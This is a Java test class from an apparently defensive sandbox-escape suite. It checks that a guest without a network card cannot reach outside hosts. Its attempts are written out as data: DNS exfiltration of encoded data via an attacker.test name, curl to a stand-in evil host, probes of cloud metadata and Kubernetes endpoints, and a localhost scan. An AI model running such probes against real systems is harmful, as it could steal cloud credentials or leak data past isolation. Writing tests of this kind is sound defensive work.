package dev.bottle.system.adversarial;

import static org.assertj.core.api.Assertions.assertThat;

import dev.bottle.system.adversarial.internet.Hosts;
import dev.bottle.system.adversarial.internet.SinkEvent;
import dev.bottle.system.endtoend.LocalCluster;
import java.io.IOException;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Objects;

/**
 * Cases 1 to 10 and 49: around the proxy. There is no network card, so nothing is denied by anybody
 * who could tell; the kernel's own word at once is the record, and the sinks are on addresses that
 * this machine, the node, does reach.
 */
final class GuestFloor {
  /** 35 bytes in Base32, as a name. */
  private static final String DATA = "mzxw6ytboi2gk4tbnrsxg2lomruw4zzbonswg4tfoqqgs4zanbsxezi";

  /** What the kernel says without a route. */
  private static final String NO_ROUTE = "Network is unreachable";

  /** Attempts on the sinks: all of them arrive when they are made by this machine. */
  private static final Map<String, Integer> ON_SINKS = onSinks();

  private final LocalCluster cluster;
  private final ClusterBottle bottle;
  private final Internet internet;
  private final Map<String, Integer> numbers = new LinkedHashMap<>(ON_SINKS);
  private final Map<String, Map<String, String>> results = new LinkedHashMap<>();
  private int before;

  GuestFloor(LocalCluster cluster, ClusterBottle bottle, Internet internet) {
    this.cluster = cluster;
    this.bottle = bottle;
    this.internet = internet;
    add(4, "name " + DATA + ".attacker.test 0");
    add(6, "ping " + Hosts.EVIL + " 0");
    add(7, "tcp 2606:4700:4700::1111 443");
    for (String address : List.of("169.254.169.254", "168.63.129.16", "100.100.100.200")) {
      add(8, "tcp " + address + " 80");
    }
    add(8, "tcp fd00:ec2::254 80");
    add(8, "name metadata.google.internal 0");
    add(9, "tcp 10.96.0.1 443");
    add(9, "name kubernetes.default.svc.cluster.local 0");
    add(9, "tcp 10.98.0.1 6443");
    add(9, "tcp 10.98.0.1 10250");
    add(9, "tcp 10.98.0.1 53");
    add(9, "udp 10.98.0.1 53");
    add(10, "tcp 100.96.0.1 9099");
    add(10, "scan 127.0.0.1 0");
  }

  private static Map<String, Integer> onSinks() {
    Map<String, Integer> numbers = new LinkedHashMap<>();
    for (int port : new int[] {443, 80, 22, 25}) {
      numbers.put("tcp " + Hosts.EVIL + " " + port, 2);
    }
    for (int port : new int[] {53, 853}) {
      numbers.put("tcp " + Hosts.EVIL + " " + port, 3);
    }
    for (int port : new int[] {53, 123, 443}) {
      numbers.put("udp " + Hosts.EVIL + " " + port, 3);
    }
    numbers.put("icmp " + Hosts.EVIL + " 0", 6);
    return numbers;
  }

  private void add(int number, String attempt) {
    numbers.put(attempt, number);
  }

  /** That the sinks hear what is sent to them: otherwise their silence would say nothing. */
  void thisMachineReachesTheSinks() throws IOException {
    long echoes = internet.echoes();
    Map<String, String> made = new Attempts(List.copyOf(ON_SINKS.keySet())).by(cluster, List.of());
    assertThat(made.values()).containsOnly("connected", "sent");
    LocalCluster.await()
        .untilAsserted(() -> {
          assertThat(internet.events())
              .filteredOn(event -> event.kind() == SinkEvent.Kind.Opened)
              .extracting(SinkEvent::sink)
              .contains(
                  Hosts.EVIL + ":443",
                  Hosts.EVIL + ":80",
                  Hosts.EVIL + ":22",
                  Hosts.EVIL + ":25",
                  Hosts.EVIL + ":53",
                  Hosts.EVIL + ":853",
                  "udp:123",
                  "udp:443");
          assertThat(internet.echoes()).isGreaterThan(echoes);
        });
  }

  /** One for each attempt, made by the guest's user, its root, and in the monitor's place. */
  List<Case> cases() {
    List<Case> cases = new ArrayList<>();
    cases.add(
        new Case.Tried(
            1,
            "`curl --noproxy '*'` to a host and to an address",
            _ ->
                bottle.sh(
                    "for to in evil.test %s; do curl -sk --noproxy '*' --max-time 10 https://$to/; echo $?; done"
                        .formatted(Hosts.EVIL)),
            Check.silence().and(seen -> assertThat(seen.answer()).isEqualTo("6\n7\n"))));
    numbers.forEach((attempt, number) -> {
      cases.add(
          new Case.Tried(
              number,
              "`%s`, as the guest's user and as its root".formatted(shown(attempt)),
              _ -> result("user", attempt) + "\n" + result("root", attempt),
              silence().and(seen -> expected(attempt, seen.answer()))));
    });
    numbers.keySet().stream()
        .filter(attempt -> !attempt.startsWith("scan") && !attempt.startsWith("name"))
        .forEach(attempt ->
            cases.add(
                new Case.Tried(
                    49,
                    "`%s` in the namespaces of the machine's monitor".formatted(shown(attempt)),
                    _ -> result("monitor", attempt),
                    silence().and(seen -> expected(attempt, seen.answer())))));
    return cases;
  }

  private static void expected(String attempt, String answer) {
    String[] words = answer.split("\n", -1);
    assertThat(words)
        .as(attempt)
        .allSatisfy(word -> {
          switch (attempt.split(" ", -1)[0]) {
            case "name" -> assertThat(word).isEqualTo("no address");
            case "scan" -> assertThat(word).isEqualTo("open: 8888 9100 9418");
            // The guest's user may have no such socket.
            case "icmp" -> assertThat(word).isIn(NO_ROUTE, "socket: Operation not permitted");
            case "ping" -> assertThat(word).isIn(NO_ROUTE, "socket: Permission denied");
            default -> assertThat(word).isIn(NO_ROUTE, "Cannot assign requested address");
          }
        });
  }

  private static String shown(String attempt) {
    return attempt.replace(DATA, DATA.substring(0, 12) + "…").replaceAll(" 0$", "");
  }

  private Check silence() {
    return Check.silence()
        .and(_ ->
            assertThat(internet.events().stream().skip(before))
                .filteredOn(event -> !event.sink().equals(Hosts.ORIGIN + ":443"))
                .extracting(SinkEvent::text)
                .as("sinks")
                .isSubsetOf(Policies.BARRIER));
  }

  /** Of who tried it; all attempts of all of them are made at the first question. */
  private String result(String who, String attempt) throws IOException {
    if (results.isEmpty()) {
      before = internet.events().size();
      long echoes = internet.echoes();
      Attempts all = new Attempts(List.copyOf(numbers.keySet()));
      results.put("user", all.by(cluster, bottle.asUser()));
      results.put("root", all.by(cluster, bottle.asRoot()));
      results.put("monitor", all.by(cluster, bottle.asMonitor()));
      assertThat(internet.echoes()).as("ICMP echo requests").isEqualTo(echoes);
    }
    return Objects.requireNonNull(
        Objects.requireNonNull(results.get(who), who).get(attempt), attempt);
  }
}
